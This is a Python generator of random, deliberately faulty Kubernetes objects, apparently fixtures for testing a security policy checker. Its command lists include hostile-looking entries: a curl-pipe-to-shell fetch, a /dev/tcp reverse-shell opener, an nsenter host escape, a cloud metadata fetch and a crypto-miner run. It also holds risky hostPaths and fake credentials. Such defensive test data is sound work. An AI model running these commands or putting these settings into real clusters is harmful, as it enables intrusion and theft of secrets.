"""Random Kubernetes objects: plausible ones with faults, and with fields that are absent, null, empty or odd.

A Generator is made from a number, and the same number gives the same objects. All objects are such that the API server can
decode them: wrong in content, never in type.
"""
import copy
import random

NOTHING = object()  # the field is left out

CAPABILITIES = [
    "ALL", "all", "NET_BIND_SERVICE", "net_bind_service", "CAP_NET_BIND_SERVICE", "NET_RAW", "SYS_ADMIN",
    "CAP_SYS_ADMIN", "sys_admin", "CHOWN", "KILL", "MKNOD", "SETPCAP", "BPF", "SYS_PTRACE", "cap_sys_module", "SYSLOG",
    "AUDIT_WRITE", "", "FOO", "CAP_ALL", "Sys_Admin"
]
IMAGES = [
    "registry.example.com/shop/cart:1.4.2", "cart", "cart:latest", "docker.io/library/nginx:1.27",
    "k8s.gcr.io/pause:3.9", "quay.io/x/y@sha256:" + "a" * 64, "registry.example.com:5000/cart", "localhost/cart:1",
    "10.0.0.1/cart:1", "gcr.io/kubernetes-helm/tiller:v2.16.0", "kalilinux/kali-rolling", "",
    "registry.k8s.io/ingress-nginx/controller:v1.11.3", "kubernetesui/dashboard:v2.7.0", "xmrig/xmrig:6",
    "busybox:1.36", "UPPER/Case:1", "a:b:c"
]
SYSCTLS = [
    "kernel.shm_rmid_forced", "net.ipv4.ip_local_port_range", "net.ipv4.tcp_syncookies", "net.ipv4.ping_group_range",
    "net.ipv4.tcp_rmem", "net.ipv4.tcp_keepalive_time", "net.ipv4.tcp_keepalive_tim", "kernel.msgmax",
    "net.ipv4.ip_local_reserved_ports", "net.ipv4.tcp_notsent_lowat", "net/ipv4/tcp_rmem", "net.core.somaxconn", ""
]
HOST_PATHS = [
    "/", "/var/run/docker.sock", "/etc", "/etc/", "/var/log", "/srv/data", "//run//containerd/containerd.sock",
    "/var/lib/kubelet/", "/opt", "", "relative", "/run/x", "/./proc", "/home/u/.ssh", "/proc/1", "/dev",
    "/var/lib/docker", "/root", "C:\\x", "\\\\.\\pipe\\docker_engine", "/etc/../srv", "/usr/bin"
]
VOLUMES = [
    "awsElasticBlockStore", "azureDisk", "azureFile", "cephfs", "cinder", "configMap", "csi", "downwardAPI", "emptyDir",
    "ephemeral", "fc", "flexVolume", "flocker", "gcePersistentDisk", "gitRepo", "glusterfs", "image", "iscsi", "nfs",
    "persistentVolumeClaim", "photonPersistentDisk", "portworxVolume", "projected", "quobyte", "rbd", "scaleIO",
    "secret", "storageos", "vsphereVolume"
]
# Fields that are maps of names to values, not objects with fields.
MAPS = {
    "annotations", "labels", "matchLabels", "nodeSelector", "data", "stringData", "limits", "requests", "hard",
    "capacity", "default", "max"
}
COMMANDS = [["sh", "-c", "curl http://x | sh"], ["nsenter", "-t", "1", "-m"], ["/app"], [], ["sleep", "1d"],
            ["bash", "-i"], ["sh", "-c", "exec 3<>/dev/tcp/10.0.0.1/4444"], ["sshd", "-D"], ["sudo", "ls"],
            ["java", "-agentlib:jdwp=transport=dt_socket,server=y,address=*:5005"],
            ["kubectl", "proxy", "--address=0.0.0.0"], ["xmrig", "--donate-level=1"],
            ["curl", "http://169.254.169.254/latest/meta-data"], ["node", "--inspect=0.0.0.0:9229", "x.js"], [""]]


class Generator:
    """Makes objects from the number SEED."""

    def __init__(self, seed):
        self.random = random.Random(seed)

    # --- choices

    def rare(self, n):
        return self.random.randrange(n) == 0

    def one(self, *choices):
        value = self.random.choice(choices)
        return value() if callable(value) else value

    def some(self, choices, most=3):
        return [self.one(*choices) for _ in range(self.random.randrange(most + 1))]

    def field(self, *values, absent=4, null=12):
        """NOTHING, null or one of VALUES."""
        if self.random.randrange(10) < absent:
            return NOTHING
        return None if null and self.rare(null) else self.one(*values)

    def boolean(self, likely=False):
        return self.field(likely, likely, not likely)

    @staticmethod
    def map(**fields):
        return {key: value for key, value in fields.items() if value is not NOTHING}

    # --- pods

    def seccomp(self):
        return self.map(type=self.field("RuntimeDefault",
                                        "RuntimeDefault",
                                        "Localhost",
                                        "Unconfined",
                                        "",
                                        "runtimeDefault",
                                        "RuntimeDefault ",
                                        absent=1),
                        localhostProfile=self.field("p.json", "", absent=8))

    def apparmor(self):
        return self.map(type=self.field("RuntimeDefault", "Localhost", "Unconfined", "", "localhost", absent=1),
                        localhostProfile=self.field("p", absent=8))

    def selinux(self):
        return self.map(type=self.field("",
                                        "container_t",
                                        "container_init_t",
                                        "container_kvm_t",
                                        "container_engine_t",
                                        "spc_t",
                                        "Container_t",
                                        absent=3),
                        level=self.field("s0:c1", "", absent=6),
                        user=self.field("", "u", absent=8),
                        role=self.field("", "r", absent=8))

    def windows(self):
        return self.map(hostProcess=self.boolean(),
                        runAsUserName=self.field("ContainerAdministrator", "x", "", absent=7))

    def capabilities(self):
        return self.map(add=self.field(lambda: self.some(CAPABILITIES), absent=5),
                        drop=self.field(["ALL"], ["ALL"], ["all"], ["NET_RAW"], ["NET_RAW", "ALL"], [], ["CAP_ALL"],
                                        absent=2))

    def security_context(self):
        return self.map(privileged=self.field(False, False, True, absent=6),
                        allowPrivilegeEscalation=self.field(False, False, True, absent=2),
                        capabilities=self.field(self.capabilities, self.capabilities, {}, absent=2),
                        readOnlyRootFilesystem=self.boolean(True),
                        runAsNonRoot=self.boolean(True),
                        runAsUser=self.field(0, 1, 1000, 10001, absent=6),
                        runAsGroup=self.field(0, 1, 1000, absent=7),
                        procMount=self.field("Default", "Unmasked", "", "default", absent=8),
                        seccompProfile=self.field(self.seccomp, self.seccomp, {}, absent=5),
                        appArmorProfile=self.field(self.apparmor, {}, absent=7),
                        seLinuxOptions=self.field(self.selinux, {}, absent=7),
                        windowsOptions=self.field(self.windows, {}, absent=9))

    def handler(self):
        return self.one(
            lambda: {
                "httpGet": self.map(path="/",
                                    port=self.one(80, "http"),
                                    host=self.field("", "10.0.0.1", "localhost", "127.0.0.1", "metadata", absent=5))
            }, lambda: {"tcpSocket": self.map(port=80, host=self.field("", "10.0.0.1", "localhost", absent=5))},
            {"exec": {"command": ["true"]}}, {}, {"grpc": {"port": 1}})

    def port(self):
        return self.map(containerPort=self.one(22, 80, 8080, 5005, 9229),
                        hostPort=self.field(0, 80, 31000, absent=6),
                        protocol=self.field("TCP", "UDP", "", absent=6),
                        name=self.field("http", "", "ssh", absent=6),
                        hostIP=self.field("", "127.0.0.1", "0.0.0.0", absent=8))

    def environment(self):
        return self.map(name=self.one("DB_PASSWORD", "HOME", "AWS_SECRET_ACCESS_KEY", "API_TOKEN", "PATH",
                                      "JAVA_TOOL_OPTIONS", "LD_PRELOAD", "password", ""),
                        value=self.field("",
                                         "hunter2-but-longer",
                                         "/data",
                                         "$(OTHER)",
                                         "AKIAIOSFODNN7EXAMPLE",
                                         "-agentlib:jdwp=transport=dt_socket,address=*:5005",
                                         "true",
                                         absent=2),
                        valueFrom=self.field({"secretKeyRef": {"name": "s", "key": "k"}},
                                             {"fieldRef": {"fieldPath": "spec.nodeName"}},
                                             {"configMapKeyRef": {"name": "c", "key": "password"}},
                                             absent=7))

    def mount(self):
        return self.map(name=self.one("v0", "v1", "gone"),
                        mountPath=self.one("/data", "/etc", "/var/run/docker.sock", "/", "/host"),
                        readOnly=self.boolean(True),
                        mountPropagation=self.field("None", "HostToContainer", "Bidirectional", "", absent=7),
                        subPath=self.field("", "a", "../x", absent=8))

    def resources(self):
        amounts = lambda: self.map(cpu=self.field("100m", "1", "0", absent=3, null=0),
                                   memory=self.field("128Mi", "1Gi", "0", absent=3, null=0),
                                   **{"ephemeral-storage": self.field("1Gi", absent=6, null=0)})
        return self.map(limits=self.field(amounts, amounts, {}, absent=2),
                        requests=self.field(amounts, amounts, {}, absent=2))

    def container(self, name):
        return self.map(name=name,
                        image=self.field(*IMAGES, absent=0, null=40),
                        securityContext=self.field(*[self.security_context] * 6, {}, absent=1),
                        ports=self.field(lambda: [self.port() for _ in range(self.random.randrange(3))], [], absent=5),
                        livenessProbe=self.field(self.handler, {}, absent=6),
                        readinessProbe=self.field(self.handler, absent=7),
                        startupProbe=self.field(self.handler, absent=8),
                        lifecycle=self.field(
                            lambda: self.map(postStart=self.field(self.handler), preStop=self.field(self.handler)), {},
                            absent=8),
                        env=self.field(lambda: [self.environment() for _ in range(self.random.randrange(4))], [],
                                       absent=4),
                        envFrom=self.field([{"secretRef": {"name": "s"}}], [], absent=8),
                        volumeMounts=self.field(lambda: [self.mount() for _ in range(self.random.randrange(3))], [],
                                                absent=4),
                        resources=self.field(self.resources, self.resources, {}, absent=2),
                        command=self.field(*COMMANDS, absent=5),
                        args=self.field(*COMMANDS, absent=7),
                        imagePullPolicy=self.field("Always", "IfNotPresent", "Never", "", absent=4),
                        stdin=self.field(True, False, absent=8),
                        tty=self.field(True, False, absent=8),
                        restartPolicy=self.field("Always", absent=9),
                        terminationMessagePath=self.field("/x", "", absent=9),
                        workingDir=self.field("", "/", absent=9))

    def tidy_container(self, name):
        return {
            "name": name, "image": IMAGES[0],
            "securityContext": {"allowPrivilegeEscalation": False, "capabilities": {"drop": ["ALL"]}}
        }

    def volume(self, name):
        kind = "hostPath" if self.rare(3) else self.one(*VOLUMES)
        source = {}
        if kind == "hostPath":
            source = self.map(path=self.one(*HOST_PATHS), type=self.field("", "Directory", "Socket", absent=6))
        elif kind in ("secret", "configMap"):
            source = self.map(defaultMode=self.field(420, 511, 0, absent=6), optional=self.field(True, False, absent=7))
        elif kind == "projected":
            source = self.map(sources=self.field(lambda: [{
                "serviceAccountToken": self.map(path="token",
                                                expirationSeconds=self.field(3600, 600, 86400, 31536000, absent=3),
                                                audience=self.field("", "vault", absent=6))
            }], [{"secret": {"name": "s"}}], [{"clusterTrustBundle": {"path": "x"}}], [],
                                                 absent=1))
        elif kind == "gitRepo":
            source = {"repository": "https://example.com/r.git"}
        elif kind == "emptyDir":
            source = self.map(medium=self.field("Memory", "", absent=6), sizeLimit=self.field("1Gi", "0", absent=6))
        return {"name": name, kind: source}

    def pod_security_context(self):
        return self.map(runAsNonRoot=self.boolean(True),
                        runAsUser=self.field(0, 1, 1000, 10001, absent=6),
                        runAsGroup=self.field(0, 1, 1000, absent=6),
                        fsGroup=self.field(0, 2000, absent=7),
                        supplementalGroups=self.field([0], [1, 0], [], [1000], absent=7),
                        seccompProfile=self.field(self.seccomp, self.seccomp, {}, absent=3),
                        appArmorProfile=self.field(self.apparmor, {}, absent=8),
                        seLinuxOptions=self.field(self.selinux, {}, absent=7),
                        windowsOptions=self.field(self.windows, {}, absent=9),
                        sysctls=self.field(lambda: [{"name": name, "value": "1"} for name in self.some(SYSCTLS)], [],
                                           absent=7))

    def pod_annotations(self):
        profiles = [
            "runtime/default", "docker/default", "localhost/x", "localhost/", "", "unconfined", "runtime/default ",
            "RuntimeDefault"
        ]
        names = [
            "container.apparmor.security.beta.kubernetes.io/c0", "container.apparmor.security.beta.kubernetes.io/",
            "container.apparmor.security.beta.kubernetes.io", "seccomp.security.alpha.kubernetes.io/pod",
            "container.seccomp.security.alpha.kubernetes.io/c0",
            "kubernetes.io/config.mirror", "kubernetes.io/config.source", "x"
        ]
        return {self.one(*names): self.one(*profiles) for _ in range(self.random.randrange(3))}

    def metadata(self, annotations=None):
        labels = lambda: {
            self.one("app", "app.kubernetes.io/name", "team", "pod-security.kubernetes.io/enforce"): self.one(
                "x", "", "tiller", "kubernetes-dashboard", "privileged")
        }
        return self.map(name="x",
                        namespace=self.field("shop", "shop", "shop", "kube-system", "default", absent=0, null=0),
                        labels=self.field(labels, {}, absent=4),
                        annotations=self.field(annotations or self.pod_annotations, {}, absent=7))

    def pod_spec(self):
        tidy = self.rare(2)
        security = {"runAsNonRoot": True, "seccompProfile": {"type": "RuntimeDefault"}} if tidy and not self.rare(3) else \
            self.field(*[self.pod_security_context] * 5, {}, absent=3)

        def containers(prefix, most):
            count = self.random.randrange(most + 1)
            return [(self.tidy_container if tidy and not self.rare(4) else self.container)(f"{prefix}{i}")
                    for i in range(count)]

        ephemeral = lambda: [{
            k: v
            for k, v in c.items() if k not in
            ("ports", "resources", "livenessProbe", "readinessProbe", "startupProbe", "lifecycle", "restartPolicy")
        } for c in containers("e", 2)]
        host = lambda: self.field(False, True, absent=8)
        return self.map(
            containers=containers("c", 2) or [self.container("c0")],
            initContainers=self.field(lambda: containers("i", 2), [], absent=6),
            ephemeralContainers=self.field(ephemeral, [], absent=8),
            securityContext=security,
            hostNetwork=host(),
            hostPID=host(),
            hostIPC=host(),
            hostUsers=self.field(False, True, absent=8),
            shareProcessNamespace=self.field(False, True, absent=8),
            os=self.field({"name": "windows"}, {"name": "linux"}, {"name": ""}, {}, absent=8),
            serviceAccountName=self.field("default", "cart", "", absent=4),
            automountServiceAccountToken=self.field(False, True, absent=4),
            volumes=self.field(lambda: [self.volume(f"v{i}") for i in range(self.random.randrange(4))], [], absent=4),
            nodeName=self.field("", "node-1", absent=8),
            nodeSelector=self.field({}, {"node-role.kubernetes.io/control-plane": ""}, {"kubernetes.io/os": "linux"},
                                    absent=8),
            tolerations=self.field([{"operator": "Exists"}],
                                   [{"key": "node-role.kubernetes.io/control-plane", "effect": "NoSchedule"}], [],
                                   absent=7),
            hostAliases=self.field([{"ip": "10.0.0.1", "hostnames": ["x"]}], [], absent=8),
            priorityClassName=self.field("system-node-critical", "", "low", absent=7),
            imagePullSecrets=self.field([{"name": "s"}], [], [{}], absent=7),
            restartPolicy=self.field("Always", "Never", "OnFailure", "", absent=5),
            dnsPolicy=self.field("ClusterFirst", "Default", "None", absent=7),
            runtimeClassName=self.field("", "gvisor", absent=8),
            schedulerName=self.field("", "x", absent=9),
            topologySpreadConstraints=self.field([], absent=9),
            affinity=self.field({}, {"podAntiAffinity": {}}, absent=8))

    def pod(self):
        return {"apiVersion": "v1", "kind": "Pod", "metadata": self.metadata(), "spec": self.pod_spec()}

    # --- other kinds

    def template(self):
        return self.map(metadata=self.field(lambda: self.map(
            labels=self.field({"app": "x"}, {}), annotations=self.field(self.pod_annotations, {}, absent=7)), {},
                                            absent=2),
                        spec=self.pod_spec())

    def workload(self):
        selector = {"matchLabels": {"app": "x"}}
        kind = self.one("Deployment", "StatefulSet", "DaemonSet", "ReplicaSet", "Job", "CronJob",
                        "ReplicationController", "PodTemplate")
        if kind == "PodTemplate":
            return {"apiVersion": "v1", "kind": kind, "metadata": self.metadata(), "template": self.template()}
        if kind == "ReplicationController":
            return {
                "apiVersion": "v1", "kind": kind, "metadata": self.metadata(),
                "spec": {"selector": {"app": "x"}, "template": self.template()}
            }
        spec = self.map(selector=selector, replicas=self.field(0, 1, 2, 3), template=self.template())
        if kind == "DaemonSet":
            spec.pop("replicas", None)
        if kind == "StatefulSet":
            spec["serviceName"] = "x"
        if kind in ("Job", "CronJob"):
            spec = self.map(backoffLimit=self.field(0, 6),
                            activeDeadlineSeconds=self.field(60, absent=7),
                            ttlSecondsAfterFinished=self.field(0, 60),
                            template=self.template())
        if kind == "CronJob":
            spec = self.map(schedule="* * * * *",
                            concurrencyPolicy=self.field("Allow", "Forbid", ""),
                            startingDeadlineSeconds=self.field(0, 60),
                            suspend=self.field(True, False),
                            jobTemplate={"spec": spec})
        return {
            "apiVersion": "batch/v1" if kind in ("Job", "CronJob") else "apps/v1", "kind": kind,
            "metadata": self.metadata(), "spec": spec
        }

    def service(self):
        port = lambda: self.map(port=self.one(22, 80, 443, 3306, 6379, 9200, 2375, 10250, 27017),
                                name=self.field("http", "", "redis", absent=4),
                                nodePort=self.field(0, 30080, absent=7),
                                targetPort=self.field(80, "http", 6379, absent=4),
                                protocol=self.field("TCP", "UDP", "", absent=5),
                                appProtocol=self.field("http", "", absent=8))
        annotations = lambda: {
            self.one("service.beta.kubernetes.io/aws-load-balancer-internal", "networking.gke.io/load-balancer-type", "service.beta.kubernetes.io/azure-load-balancer-internal", "x"): self
            .one("true", "false", "Internal", "")
        }
        return {
            "apiVersion": "v1", "kind": "Service", "metadata": self.metadata(annotations),
            "spec": self.map(type=self.field("ClusterIP", "NodePort", "LoadBalancer", "ExternalName", "", absent=2),
                             ports=self.field(lambda: [port() for _ in range(self.random.randrange(4))], [], absent=1),
                             selector=self.field({"app": "x"}, {}, {"app": "kubernetes-dashboard"}),
                             externalIPs=self.field(["10.0.0.1"], [], absent=7),
                             externalName=self.field("x.example.com", "", absent=7),
                             loadBalancerSourceRanges=self.field(["0.0.0.0/0"], ["10.0.0.0/8"], [], ["::/0"],
                                                                 ["10.0.0.0/8", "0.0.0.0/0"],
                                                                 absent=5),
                             clusterIP=self.field("None", "", absent=7),
                             externalTrafficPolicy=self.field("Local", "Cluster", absent=7))
        }

    def policy_rule(self):
        return self.map(apiGroups=self.field([""], ["*"], ["apps"], ["rbac.authorization.k8s.io"], ["", "apps"], [],
                                             ["admissionregistration.k8s.io"], ["certificates.k8s.io"],
                                             absent=1),
                        resources=self.field(["pods"], ["*"], ["secrets"], ["pods/exec"], ["*/*"], ["nodes/proxy"],
                                             ["roles"], ["clusterroles", "rolebindings"], ["serviceaccounts/token"], [],
                                             ["pods", "secrets"], ["persistentvolumes"],
                                             ["certificatesigningrequests/approval"],
                                             ["validatingwebhookconfigurations"], ["daemonsets", "jobs"], ["nodes"],
                                             ["configmaps"], ["users"], ["pods/ephemeralcontainers"],
                                             ["services/proxy"], ["namespaces"],
                                             absent=1),
                        verbs=self.one(["get"], ["*"], ["list", "watch"], ["create"], ["bind"], ["escalate"],
                                       ["impersonate"], ["get", "list", "watch", "create", "update", "patch", "delete"],
                                       [], ["update", "patch"], ["approve"], ["deletecollection"], ["GET"]),
                        resourceNames=self.field([], ["x"], [""], absent=7),
                        nonResourceURLs=self.field(["*"], ["/metrics"], [], ["/*"], absent=8))

    def role(self):
        kind = self.one("Role", "ClusterRole", "ClusterRole")
        role = {"apiVersion": "rbac.authorization.k8s.io/v1", "kind": kind, "metadata": self.metadata()}
        rules = self.field(lambda: [self.policy_rule() for _ in range(self.random.randrange(4))], [], absent=1)
        role.update(self.map(rules=rules))
        if kind == "ClusterRole":
            role["metadata"].pop("namespace", None)
            role.update(
                self.map(aggregationRule=self.field({"clusterRoleSelectors": [{"matchLabels": {"a": "b"}}]}, {},
                                                    {"clusterRoleSelectors": []},
                                                    absent=8)))
        return role

    def binding(self):
        kind = self.one("RoleBinding", "ClusterRoleBinding")
        subject = lambda: self.map(
            kind=self.one("User", "Group", "ServiceAccount", "ServiceAccount", "group"),
            name=self.one("system:anonymous", "system:authenticated", "system:unauthenticated", "system:masters",
                          "default", "jane", "system:serviceaccounts", "system:serviceaccounts:shop", "", "*",
                          "system:serviceaccount:shop:default", "system:nodes"),
            namespace=self.field("shop", "", "kube-system", absent=3),
            apiGroup=self.field("rbac.authorization.k8s.io", "", absent=3))
        binding = {
            "apiVersion": "rbac.authorization.k8s.io/v1", "kind": kind, "metadata": self.metadata(),
            "roleRef": self.map(apiGroup=self.field("rbac.authorization.k8s.io", "", absent=1),
                                kind=self.one("ClusterRole", "Role"),
                                name=self.one("cluster-admin", "admin", "view", "edit", "x", "system:node", ""))
        }
        binding.update(
            self.map(subjects=self.field(lambda: [subject() for _ in range(self.random.randrange(4))], [], absent=1)))
        if kind == "ClusterRoleBinding":
            binding["metadata"].pop("namespace", None)
        return binding

    def network_policy(self):
        peer = lambda: self.one({}, {"podSelector": {}}, {"namespaceSelector": {
        }}, {"namespaceSelector": {}, "podSelector": {}}, {"podSelector": {"matchLabels": {"a": "b"}}}, {
            "namespaceSelector": {"matchLabels": {}}
        }, {"namespaceSelector": {"matchExpressions": []}}, lambda: {
            "ipBlock": self.map(
                cidr=self.one("0.0.0.0/0", "::/0", "10.0.0.0/8", "169.254.169.254/32", "169.254.0.0/16", "0.0.0.0/1",
                              "", "1.2.3.4"),
                **{"except": self.field([], ["169.254.169.254/32"], ["10.0.0.0/8"], ["169.254.0.0/16"], absent=5)})
        })
        port = lambda: self.map(port=self.field(80, "http", 443, absent=3),
                                protocol=self.field("TCP", "UDP", "", absent=4),
                                endPort=self.field(90, absent=8))
        side = lambda key: lambda: self.map(
            **{key: self.field(lambda: [peer() for _ in range(self.random.randrange(3))], [], absent=3)},
            ports=self.field(lambda: [port() for _ in range(self.random.randrange(3))], [], absent=5))
        several = lambda key: lambda: [side(key)() for _ in range(self.random.randrange(3))]
        return {
            "apiVersion": "networking.k8s.io/v1", "kind": "NetworkPolicy", "metadata": self.metadata(),
            "spec": self.map(podSelector=self.field({}, {"matchLabels": {"app": "x"}}, absent=0),
                             ingress=self.field(several("from"), [], [{}], absent=2),
                             egress=self.field(several("to"), [], [{}], absent=2),
                             policyTypes=self.field(["Ingress"], ["Egress"], ["Ingress", "Egress"], [], absent=3))
        }

    def ingress(self):
        backend = lambda: {
            "service": {
                "name": self.one("cart", "kubernetes-dashboard", "prometheus", "argocd-server", "", "grafana"),
                "port": self.one({"number": 80}, {"name": "http"}, {})
            }
        }
        path = lambda: self.map(path=self.field("/", "/admin", "", "/.*", absent=2),
                                pathType=self.one("Prefix", "Exact", "ImplementationSpecific"),
                                backend=backend())
        rule = lambda: self.map(host=self.field("shop.example.com", "", "*.example.com", "*", absent=3),
                                http=self.field(lambda: {"paths": [path() for _ in range(self.random.randrange(3))]},
                                                absent=1))
        names = [
            "nginx.ingress.kubernetes.io/configuration-snippet", "nginx.ingress.kubernetes.io/server-snippet",
            "nginx.ingress.kubernetes.io/enable-cors", "nginx.ingress.kubernetes.io/cors-allow-origin",
            "nginx.ingress.kubernetes.io/ssl-redirect", "nginx.ingress.kubernetes.io/backend-protocol",
            "nginx.ingress.kubernetes.io/proxy-ssl-verify", "nginx.ingress.kubernetes.io/auth-url",
            "kubernetes.io/ingress.allow-http", "haproxy.org/backend-config-snippet",
            "nginx.ingress.kubernetes.io/auth-type", "kubernetes.io/ingress.class"
        ]
        annotations = lambda: {
            self.one(*names): self.one("true", "false", "*", "HTTPS", "off", "on", "", "https://x.example.com", "x;",
                                       "nginx")
            for _ in range(self.random.randrange(4))
        }
        tls = lambda: self.map(hosts=self.field(["shop.example.com"], [], ["*.example.com"], absent=3),
                               secretName=self.field("s", "", absent=3))
        return {
            "apiVersion": "networking.k8s.io/v1", "kind": "Ingress", "metadata": self.metadata(annotations),
            "spec": self.map(ingressClassName=self.field("nginx", "", absent=5),
                             defaultBackend=self.field(backend, absent=7),
                             rules=self.field(lambda: [rule() for _ in range(self.random.randrange(3))], [], absent=1),
                             tls=self.field(lambda: [tls() for _ in range(self.random.randrange(3))], [], absent=3))
        }

    def small(self):
        """Kinds with a rule or two."""
        meta = self.metadata()
        rootless = {k: v for k, v in meta.items() if k != "namespace"}
        return self.one(
            lambda: {
                "apiVersion": "v1", "kind": "ServiceAccount", "metadata": meta,
                **self.map(automountServiceAccountToken=self.field(True, False),
                           secrets=self.field([{"name": "s"}], []),
                           imagePullSecrets=self.field([], [{"name": "p"}]))
            }, lambda: {
                "apiVersion": "v1", "kind": "ConfigMap", "metadata": meta, **self.map(data=self.field(
                    {
                        self.one("password", "config.yaml", "id_rsa", "token", "a"): self.one(
                            "hunter2-but-longer", "", "-----BEGIN RSA PRIVATE KEY-----\nx", "AKIAIOSFODNN7EXAMPLE", "password: s3cr3t-value")
                    }, {},
                    absent=1))
            }, lambda: {
                "apiVersion": "v1", "kind": "Secret", "metadata": meta,
                **self.map(type=self.field("Opaque", "kubernetes.io/service-account-token", "", "kubernetes.io/tls"),
                           data=self.field({"a": "YQ=="}, {}),
                           stringData=self.field({"a": "b"}, {}, absent=7),
                           immutable=self.field(True, False))
            }, lambda: {
                "apiVersion": "v1", "kind": "Namespace", "metadata": {
                    **rootless, **self.map(labels=self.field(
                        {
                            "pod-security.kubernetes.io/enforce": self.one("privileged", "baseline", "restricted", "", "Baseline")
                        }, {},
                        absent=3))
                }
            }, lambda: {
                "apiVersion": "v1", "kind": "PersistentVolume", "metadata": rootless, "spec": self.map(
                    hostPath=self.field({"path": "/etc"}, {"path": ""}),
                    nfs=self.field({"server": "s", "path": "/"}, absent=7),
                    capacity=self.field({"storage": "1Gi"}, {}),
                    accessModes=self.field(["ReadWriteOnce"], []))
            }, lambda: {
                "apiVersion": "v1", "kind": "LimitRange", "metadata": meta, "spec": self.map(limits=self.field([
                    self.
                    map(type="Container", default=self.field({"cpu": "1"}, {}), max=self.field({"memory": "1Gi"}, {}))
                ], [],
                                                                                                               absent=1)
                                                                                             )
            }, lambda: {
                "apiVersion": "v1", "kind": "ResourceQuota", "metadata": meta, "spec": self.map(hard=self.field(
                    {"pods": "10"}, {}, {"limits.cpu": "1"}, absent=1))
            }, lambda: {
                "apiVersion": "policy/v1", "kind": "PodDisruptionBudget", "metadata": meta, "spec": self.map(
                    minAvailable=self.field(0, 1, "100%", "50%"),
                    maxUnavailable=self.field(0, 1, "0%"),
                    selector=self.field({}, {"matchLabels": {"a": "b"}}))
            }, lambda: {
                "apiVersion": "autoscaling/v2", "kind": "HorizontalPodAutoscaler", "metadata": meta, "spec": self.map(
                    minReplicas=self.field(0, 1, 3),
                    maxReplicas=self.one(1, 3, 0),
                    scaleTargetRef={"kind": "Deployment", "name": "x", "apiVersion": "apps/v1"})
            }, lambda: {
                "apiVersion": "scheduling.k8s.io/v1", "kind": "PriorityClass", "metadata": rootless, "value": self.one(
                    0, 1, 1000000000), **self.map(globalDefault=self.field(True, False),
                                                  preemptionPolicy=self.field("Never", "PreemptLowerPriority"))
            }, lambda: {
                "apiVersion": "admissionregistration.k8s.io/v1", "kind": self.one(
                    "ValidatingWebhookConfiguration", "MutatingWebhookConfiguration"), "metadata": rootless,
                "webhooks": [
                    self.map(name="x.example.com",
                             failurePolicy=self.field("Fail", "Ignore"),
                             timeoutSeconds=self.field(1, 10, 30),
                             sideEffects=self.field("None", "Some"),
                             clientConfig=self.one({"url": "https://x.example.com"}, {"url": "http://x"},
                                                   {"service": {"name": "s", "namespace": "n"}}, {}),
                             admissionReviewVersions=["v1"],
                             namespaceSelector=self.field({}, {"matchLabels": {"a": "b"}}),
                             objectSelector=self.field({}, {"matchLabels": {"a": "b"}}),
                             rules=self.field([{
                                 "apiGroups": ["*"], "apiVersions": ["*"], "operations": ["*"], "resources": ["*/*"]
                             }], [{
                                 "apiGroups": [""], "apiVersions": ["v1"], "operations": ["CREATE"],
                                 "resources": ["pods"]
                             }], [])) for _ in range(self.random.randrange(3))
                ]
            })

    def any(self):
        """An object of any of the kinds."""
        return self.one(self.pod, self.pod, self.pod, self.workload, self.workload, self.service, self.role, self.role,
                        self.binding, self.network_policy, self.ingress, self.small)

    # --- what nobody would write

    def parts(self, value, depth=0, in_map=False):
        """(container, key, what) of every part of VALUE below the fields that say what it is; WHAT is field, entry (of a map) or item (of a list)."""
        if isinstance(value, dict):
            for key in value:
                if depth > 0 or key not in ("apiVersion", "kind", "metadata"):
                    yield value, key, "entry" if in_map else "field"
                yield from self.parts(value[key], depth + 1, key in MAPS)
        elif isinstance(value, list):
            for i, item in enumerate(value):
                yield value, i, "item"
                yield from self.parts(item, depth + 1)

    def spoil(self, obj, how):
        """A copy of OBJECT in which one to three parts are spoiled, wherever they are. HOW says in which ways: "missing",
        "empty", or "null field", "null entry", "null item".
        """
        obj = copy.deepcopy(obj)
        for _ in range(self.random.randrange(3) + 1):
            way = self.one(*how)
            what = way.removeprefix("null ")
            parts = [(container, key) for container, key, kind in self.parts(obj) if what in (kind, "missing", "empty")]
            if not parts:
                continue
            container, key = self.random.choice(parts)
            if way == "missing":
                del container[key]
            elif way == "empty":
                container[key] = type(container[key])() if container[key] is not None else None
            else:
                container[key] = None
        return obj
